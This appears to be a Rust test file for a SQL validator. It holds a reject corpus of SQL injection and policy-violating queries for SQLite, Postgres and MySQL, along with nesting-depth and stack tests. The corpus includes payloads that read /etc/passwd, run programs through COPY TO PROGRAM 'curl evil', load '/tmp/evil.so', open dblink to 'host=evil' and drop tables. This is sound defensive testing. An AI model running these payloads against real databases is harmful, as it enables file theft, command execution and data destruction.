//! The reject corpus: attacks and policy violations, with the code each must produce per
//! dialect, and the rule that policy violations are never retried.

use tandem_core::Dialect::{self, Mysql, Postgres, Sqlite};
use tandem_core::RepairTier;
use tandem_sql::{Policy, validate};

use crate::support::catalog;

const ALL: &[Dialect] = &[Sqlite, Postgres, Mysql];

/// (dialects, SQL, the code it must produce). Every case is a policy violation, so the whole
/// rejection must also be not retryable.
const ATTACKS: &[(&[Dialect], &str, &str)] = &[
    // Stacked statements, however they are hidden.
    (ALL, "SELECT 1; DROP TABLE singer", "multiple_statements"),
    (ALL, "SELECT 1; DELETE FROM singer", "write_statement"),
    (ALL, "SELECT 1;\nCOMMIT; DROP TABLE singer", "multiple_statements"),
    (ALL, "COMMIT; DROP TABLE singer", "session_statement"),
    (ALL, "SELECT 1 /* ; */; UPDATE singer SET Age = 1", "write_statement"),
    (ALL, "SELECT 1 -- comment\n; INSERT INTO singer VALUES (1)", "write_statement"),
    (&[Mysql], "SELECT 1 /*!50000 ; DROP TABLE singer */", "multiple_statements"),
    (ALL, "SELECT 1; SELECT 2", "multiple_statements"),
    (ALL, "SELECT 1; garbage that does not parse", "multiple_statements"),
    // Writes and definitions.
    (ALL, "INSERT INTO singer (Name) VALUES ('x')", "write_statement"),
    (ALL, "UPDATE singer SET Age = 0", "write_statement"),
    (ALL, "DELETE FROM singer", "write_statement"),
    (&[Sqlite, Mysql], "REPLACE INTO singer (Name) VALUES ('x')", "write_statement"),
    (&[Postgres], "MERGE INTO singer s USING stadium t ON s.Name = t.Name WHEN MATCHED THEN DELETE", "write_statement"),
    (ALL, "DROP TABLE singer", "ddl_statement"),
    (ALL, "CREATE TABLE x AS SELECT * FROM singer", "ddl_statement"),
    (ALL, "ALTER TABLE singer ADD COLUMN x int", "ddl_statement"),
    (ALL, "CREATE VIEW v AS SELECT 1", "ddl_statement"),
    (&[Postgres, Mysql], "TRUNCATE TABLE singer", "ddl_statement"),
    (&[Postgres, Mysql], "GRANT ALL ON singer TO public", "ddl_statement"),
    (&[Postgres], "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "ddl_statement"),
    (&[Postgres], "CREATE EXTENSION dblink", "ddl_statement"),
    // Writes hidden inside a query.
    (&[Postgres], "WITH d AS (DELETE FROM singer RETURNING *) SELECT * FROM d", "write_statement"),
    (&[Postgres], "WITH u AS (UPDATE singer SET Age = 1 RETURNING Name) SELECT Name FROM u", "write_statement"),
    (&[Postgres], "WITH i AS (INSERT INTO singer (Name) VALUES ('x') RETURNING *) SELECT 1", "write_statement"),
    (&[Postgres], "SELECT * FROM (WITH d AS (DELETE FROM singer RETURNING *) SELECT * FROM d) AS x", "write_statement"),
    (&[Postgres], "SELECT * INTO copy_of_singer FROM singer", "select_into"),
    (&[Postgres], "SELECT * INTO TEMPORARY t FROM singer", "select_into"),
    (&[Mysql], "SELECT Name INTO @n FROM singer", "select_into"),
    (&[Postgres], "SELECT Name FROM singer UNION SELECT Name INTO x FROM stadium", "select_into"),
    // Locking clauses.
    (&[Postgres, Mysql], "SELECT * FROM singer FOR UPDATE", "locking_clause"),
    (&[Postgres, Mysql], "SELECT * FROM singer FOR SHARE", "locking_clause"),
    (&[Postgres], "SELECT * FROM singer FOR UPDATE SKIP LOCKED", "locking_clause"),
    (&[Postgres], "SELECT * FROM (SELECT * FROM singer FOR UPDATE) AS s", "locking_clause"),
    (&[Postgres], "SELECT * FROM singer FOR NO KEY UPDATE NOWAIT", "locking_clause"),
    // Transaction and session control.
    (ALL, "BEGIN", "session_statement"),
    (ALL, "COMMIT", "session_statement"),
    (ALL, "ROLLBACK", "session_statement"),
    (&[Sqlite, Postgres], "SAVEPOINT a", "session_statement"),
    (&[Postgres, Mysql], "SET search_path = evil", "session_statement"),
    (&[Postgres], "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "session_statement"),
    (&[Postgres], "RESET ALL", "session_statement"),
    (&[Postgres], "LISTEN chan", "session_statement"),
    (&[Postgres], "NOTIFY chan", "session_statement"),
    (&[Mysql], "USE other_db", "session_statement"),
    (&[Mysql], "LOCK TABLES singer WRITE", "session_statement"),
    (&[Sqlite], "PRAGMA writable_schema = ON", "session_statement"),
    (&[Sqlite], "PRAGMA query_only = 0", "session_statement"),
    (&[Sqlite], "ATTACH DATABASE '/tmp/evil.db' AS evil", "session_statement"),
    (&[Sqlite], "ATTACH '/tmp/evil.db' AS evil", "session_statement"),
    (&[Sqlite], "DETACH DATABASE evil", "session_statement"),
    (&[Sqlite], "VACUUM", "session_statement"),
    (&[Sqlite], "VACUUM INTO '/tmp/copy.db'", "session_statement"),
    (&[Sqlite, Postgres], "ANALYZE", "session_statement"),
    // Server files and programs.
    (&[Postgres], "COPY singer TO '/tmp/out.csv'", "file_access"),
    (&[Postgres], "COPY singer FROM '/etc/passwd'", "file_access"),
    (&[Postgres], "COPY (SELECT 1) TO PROGRAM 'curl evil'", "file_access"),
    (&[Postgres], "COPY singer FROM PROGRAM 'id'", "file_access"),
    (&[Mysql], "SELECT * FROM singer INTO OUTFILE '/tmp/out'", "file_access"),
    (&[Mysql], "SELECT Name FROM singer INTO DUMPFILE '/tmp/out'", "file_access"),
    (&[Mysql], "SELECT * INTO OUTFILE '/tmp/out' FROM singer", "file_access"),
    (&[Mysql], "LOAD DATA INFILE '/etc/passwd' INTO TABLE singer", "file_access"),
    // Denied functions, at any depth.
    (&[Sqlite], "SELECT load_extension('/tmp/evil.so')", "denied_function"),
    (&[Sqlite], "SELECT readfile('/etc/passwd')", "denied_function"),
    (&[Sqlite], "SELECT writefile('/tmp/x', Name) FROM singer", "denied_function"),
    (&[Sqlite], "SELECT fts3_tokenizer('simple')", "denied_function"),
    (&[Sqlite], "SELECT Name FROM singer WHERE Age > (SELECT length(readfile('/etc/passwd')))", "denied_function"),
    (&[Sqlite], "SELECT * FROM fsdir('/')", "denied_function"),
    (&[Sqlite], "WITH x AS (SELECT load_extension('a') AS v) SELECT v FROM x", "denied_function"),
    (&[Sqlite], "SELECT CASE WHEN 1 THEN writefile('/tmp/x', 'y') END", "denied_function"),
    (&[Sqlite], "SELECT \"load_extension\"('x')", "denied_function"),
    (&[Sqlite], "SELECT LOAD_EXTENSION('x')", "denied_function"),
    (&[Postgres], "SELECT pg_read_file('/etc/passwd')", "denied_function"),
    (&[Postgres], "SELECT pg_read_binary_file('/etc/passwd')", "denied_function"),
    (&[Postgres], "SELECT * FROM pg_ls_dir('.')", "denied_function"),
    (&[Postgres], "SELECT lo_import('/etc/passwd')", "denied_function"),
    (&[Postgres], "SELECT lo_export(1, '/tmp/x')", "denied_function"),
    (&[Postgres], "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "denied_function"),
    (&[Postgres], "SELECT dblink_exec('host=evil', 'drop table x')", "denied_function"),
    (&[Postgres], "SELECT pg_sleep(100)", "denied_function"),
    (&[Postgres], "SELECT Name FROM singer WHERE pg_catalog.pg_sleep(10) IS NULL", "denied_function"),
    (&[Postgres], "SELECT set_config('default_transaction_read_only', 'off', false)", "denied_function"),
    (&[Postgres], "SELECT query_to_xml('delete from singer', true, true, '')", "denied_function"),
    (&[Postgres], "SELECT nextval('seq')", "denied_function"),
    (&[Postgres], "SELECT pg_terminate_backend(1)", "denied_function"),
    (&[Postgres], "SELECT pg_advisory_lock(1)", "denied_function"),
    (&[Postgres], "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM singer", "denied_function"),
    (&[Postgres], "SELECT Name FROM singer ORDER BY (SELECT pg_sleep(1))", "denied_function"),
    (
        &[Postgres],
        "SELECT * FROM singer s CROSS JOIN LATERAL (SELECT pg_read_file('/etc/passwd')) f",
        "denied_function",
    ),
    (&[Mysql], "SELECT LOAD_FILE('/etc/passwd')", "denied_function"),
    (&[Mysql], "SELECT SLEEP(10)", "denied_function"),
    (&[Mysql], "SELECT Name FROM singer WHERE SLEEP(5) = 0", "denied_function"),
    (&[Mysql], "SELECT BENCHMARK(100000000, MD5('a'))", "denied_function"),
    (&[Mysql], "SELECT GET_LOCK('a', 10)", "denied_function"),
    (&[Mysql], "SELECT IF(1, SLEEP(1), 0)", "denied_function"),
    (&[Mysql], "SELECT Name FROM singer WHERE Age IN (SELECT BENCHMARK(1, 1))", "denied_function"),
    // Other statements that are not plain queries.
    (ALL, "EXPLAIN SELECT 1", "unsupported_statement"),
    (&[Postgres], "EXPLAIN ANALYZE DELETE FROM singer", "unsupported_statement"),
    (&[Mysql], "SHOW TABLES", "unsupported_statement"),
    (&[Postgres, Mysql], "CALL do_things()", "unsupported_statement"),
    (&[Postgres], "PREPARE p AS DELETE FROM singer", "unsupported_statement"),
    (&[Postgres], "EXECUTE p", "unsupported_statement"),
];

#[test]
fn attacks_are_rejected_with_their_code_and_never_retried() {
    let mut failures = Vec::new();
    let mut n_cases = 0;
    for (dialects, sql, code) in ATTACKS {
        for dialect in *dialects {
            n_cases += 1;
            match validate(sql, &Policy::new(*dialect), &catalog()) {
                Ok(valid) => failures.push(format!("{dialect}: accepted {sql} as {}", valid.as_str())),
                Err(rejection) => {
                    let codes: Vec<_> = rejection.violations.iter().map(|v| v.code.as_str()).collect();
                    if !codes.contains(code) || rejection.repair_tier() != RepairTier::NotRetryable {
                        failures.push(format!("{dialect}: {sql}\n    expected {code}, got {rejection}"));
                    }
                }
            }
        }
    }
    println!("attack corpus: {n_cases} cases");
    assert!(failures.is_empty(), "{} attack cases failed:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn deep_nesting_is_a_violation_not_a_stack_overflow() {
    let policy = Policy::new(Sqlite);
    for sql in [
        format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000)),
        format!("SELECT 1 WHERE 1 IN {}SELECT 1{}", "(".repeat(2_000), ")".repeat(2_000)),
        format!("SELECT {}1{}", "abs(".repeat(3_000), ")".repeat(3_000)),
        format!("SELECT 1 FROM {}singer{}", "(SELECT * FROM ".repeat(1_000), ")".repeat(1_000)),
        format!("SELECT {}", "NOT ".repeat(10_000) + "1"),
        format!("SELECT {}", "-".repeat(10_000) + "1"),
    ] {
        let rejection = validate(&sql, &policy, &catalog()).unwrap_err();
        assert!(
            rejection.has(tandem_sql::ViolationCode::TooDeep) || rejection.has(tandem_sql::ViolationCode::SyntaxError),
            "{}: {rejection}",
            &sql[..40]
        );
    }
}

#[test]
fn long_operator_chains_stay_within_the_stack() {
    // The parser builds `1+1+…` without recursing, so only the length limit bounds its depth;
    // validating the longest allowed chain must still fit a 2 MiB thread stack.
    for n_terms in [990, Policy::DEFAULT_MAX_SQL_BYTES / 2 - 8] {
        for op in ["+", " AND ", " || "] {
            let sql = format!("SELECT 1{}", format!("{op}1").repeat(n_terms));
            let sql = &sql[..sql.len().min(Policy::DEFAULT_MAX_SQL_BYTES)];
            let sql = sql.trim_end_matches(|c: char| !c.is_ascii_digit()).to_owned();
            let handle = std::thread::Builder::new()
                .stack_size(2 * 1024 * 1024)
                .spawn(move || validate(&sql, &Policy::new(Sqlite), &catalog()).is_ok())
                .unwrap();
            assert!(handle.join().expect("validation overflowed its stack"), "{n_terms} x {op}");
        }
    }
}
